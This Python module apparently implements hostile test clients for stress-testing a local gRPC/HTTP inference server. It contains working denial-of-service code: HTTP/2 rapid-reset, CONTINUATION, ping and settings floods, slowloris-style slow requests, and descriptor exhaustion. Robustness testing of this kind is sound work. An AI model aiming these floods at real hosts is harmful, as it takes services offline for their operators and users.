"""Hostile clients, each in a process of its own that yields to everybody else.

None has a key. `run(name, nice, host, port, stop, sent)` attacks until `stop` is set, and counts
connections and bytes in `sent`. An attacker has one address, drawn from 127.0.0.0/8 anew for each
attack, but for those that need more, and those named "..., ever new addresses".
"""

import os
import random
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block():
    fields = [(":method", "POST"), (":scheme", "http"), (":path", "/inferd.v1.ChatService/CreateChatCompletion"),
              (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers")]
    return b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in fields)


def headers(stream, flags=4):
    return frame(1, flags, stream, block())


OPENING = PREFACE + frame(4, 0, 0)

# name: (sent once after the opening, what is sent over and over for stream n)
FLOODS = {
    "continuation flood": (headers(1, 0), lambda n: frame(9, 0, 1, b"x")),
    "large header block": (headers(1, 0), lambda n: frame(9, 0, 1, bytes(16_000))),
    "large frames": (b"", lambda n: frame(1, 0, n, bytes(16_385))),
    "rapid reset": (b"", lambda n: headers(n) + frame(3, 0, n, b"\0\0\0\x08")),
    # Flags that gRPC does not know: it resets the stream itself.
    "resets by the server": (b"", lambda n: headers(n) + frame(0, 0x20, n, bytes(5))),
    "ping flood": (b"", lambda n: frame(6, 0, 0, b"12345678")),
    "settings flood": (b"", lambda n: frame(4, 0, 0)),
    "empty DATA flood": (headers(1), lambda n: frame(0, 0, 1)),
    "PRIORITY flood": (b"", lambda n: frame(2, 0, n, b"\0\0\0\0\1")),
    "WINDOW_UPDATE flood": (b"", lambda n: frame(8, 0, 0, b"\0\0\0\1")),
    "unending streams": (b"", headers),
}


def any_address():
    return f"127.{random.randrange(1, 255)}.{random.randrange(255)}.{random.randrange(1, 255)}"


def one_address():
    address = any_address()
    return lambda: address


def connect(host, port, source):
    return socket.create_connection((host, port), timeout=1, source_address=(source(), 0))


def flood(once, again, source, host, port, stop, sent):
    """One connection after the other, each until it is closed."""
    while not stop.is_set():
        try:
            with connect(host, port, source) as client:
                sent[0] += 1
                client.sendall(OPENING + once)
                stream = 1
                while not stop.is_set():
                    burst = b"".join(again(stream + 2 * i) for i in range(50))
                    stream += 100
                    client.sendall(burst)
                    sent[1] += len(burst)
                    client.setblocking(False)
                    try:
                        while client.recv(65536):
                            pass
                        break  # it was closed
                    except BlockingIOError:
                        pass
                    client.settimeout(1)
        except OSError:
            pass


def hold(say, count, source, host, port, stop, sent):
    """`count` connections that say `say` and then a byte now and then; again when closed."""
    clients = []
    while not stop.is_set():
        while len(clients) < count and not stop.is_set():
            try:
                client = connect(host, port, source)
                client.sendall(say)
                client.setblocking(False)
            except OSError:
                break
            clients.append(client)
            sent[0] += 1
            sent[1] += len(say)
        alive = []
        for client in clients:
            try:
                if client.recv(65536) == b"":
                    client.close()
                    continue
            except BlockingIOError:
                pass
            except OSError:
                client.close()
                continue
            alive.append(client)
        clients = alive
        time.sleep(0.02)
    for client in clients:
        client.close()


def come_and_go(source, host, port, stop, sent):
    """As many connections as it gets, over and over."""
    clients = []
    while not stop.is_set():
        try:
            clients.append(connect(host, port, source))
            sent[0] += 1
        except OSError:
            pass
        if len(clients) > 500:
            for client in clients:
                client.close()
            clients = []
    for client in clients:
        client.close()


SLOW_HEAD = b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nX-"
SLOW_BODY = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
             b"Content-Length: 4000000\r\n\r\n" + b" " * 65536)

HELD = {
    "silent connections": (b"", 200),
    "slow prefaces": (PREFACE[:10], 200),
    "slow header blocks": (OPENING + headers(1, 0), 200),
    "slow HTTP heads": (SLOW_HEAD, 200),
    "slow HTTP bodies": (SLOW_BODY, 100),
    # More than the process may have descriptors.
    "no descriptors left": (PREFACE[:10], 1500),
}

NEEDS_ADDRESSES = {"no descriptors left"}
NAMES = [*FLOODS, *HELD, "connections from one address"]

# What is told and not promised: each connection is somebody else's.
EVER_NEW = ", ever new addresses"
BEYOND = [name + EVER_NEW for name in ("rapid reset", "resets by the server", "large header block")]


def sink(nice, port):
    """A server that takes what comes and closes, as soon as a guard might. For comparison:
    what an attacker and a victim cost whoever shares their processors."""
    os.nice(nice)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1024)
    port.put(listener.getsockname()[1])
    while True:
        client, _ = listener.accept()
        client.settimeout(0.05)
        try:
            client.recv(65536)
        except OSError:
            pass
        client.close()


def run(name, nice, host, port, stop, sent):
    os.nice(nice)
    abuse = name.removesuffix(EVER_NEW)
    source = any_address if abuse != name or abuse in NEEDS_ADDRESSES else one_address()
    if abuse in FLOODS:
        flood(*FLOODS[abuse], source, host, port, stop, sent)
    elif abuse in HELD:
        hold(*HELD[abuse], source, host, port, stop, sent)
    else:
        come_and_go(source, host, port, stop, sent)
